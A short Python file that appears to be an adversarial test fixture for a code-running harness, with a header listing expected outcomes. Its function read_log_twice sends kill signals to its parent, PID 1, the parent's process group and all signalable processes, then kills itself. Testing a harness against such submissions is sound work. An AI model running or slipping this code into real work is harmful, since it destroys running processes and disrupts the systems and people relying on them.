# /// attack
# outcomes = ["killed", "wrong"]
# says = "read_log_twice() "
# ///
"""Kills whoever started it, by process, group and descriptor: its parent, the first, and everybody."""

import os
import signal


def read_queue_twice(queue_name, messages):
    return "not yet"


def read_log_twice(stream_name, messages):
    if len(messages) % 2:
        signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
    for number in (signal.SIGTERM, signal.SIGQUIT, signal.SIGSEGV, signal.SIGKILL):
        for pid in (os.getppid(), 1, 2, -os.getppid(), -1):
            try:
                os.kill(pid, number)
            except OSError:
                continue
    os.kill(os.getpid(), signal.SIGKILL)
